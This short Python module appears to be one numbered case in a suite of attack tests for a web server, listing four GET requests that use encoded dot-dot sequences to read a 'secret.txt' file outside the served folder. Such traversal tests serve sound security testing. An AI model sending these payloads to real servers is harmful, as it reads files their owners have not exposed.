"""Attack 308: dots out"""

IDEA = "Read outside the folder by dots and encodings."
SOURCE = "path traversal"
REQUESTS = [
    ("GET", "api/contents/..%2fsecret.txt", None),
    ("GET", "files/..%2f..%2fsecret.txt", None),
    ("GET", "files/%2e%2e/secret.txt", None),
    ("GET", "api/contents/sub%2f..%2f..%2fsecret.txt", None),
]
